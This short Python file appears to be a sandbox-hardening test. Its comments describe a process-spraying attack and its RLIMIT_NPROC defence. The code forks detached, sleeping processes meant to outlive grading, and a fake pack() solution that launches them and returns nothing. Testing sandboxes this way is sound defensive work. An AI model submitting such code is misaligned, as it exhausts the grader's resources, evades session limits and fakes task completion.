# attack: fork as many processes as possible, each in a session of its own, sleeping for hours
# defence: RLIMIT_NPROC in the sandbox's user namespace; its PID namespace dies with it
import os
import time


def spray():
    while True:
        try:
            child = os.fork()
        except OSError:
            return
        if child == 0:
            try:
                os.setsid()
                time.sleep(120)  # long enough to outlive grading; bounded, to be safe as non-root
            finally:
                os._exit(0)


spray()


def pack(parts, budget):
    spray()
    return []
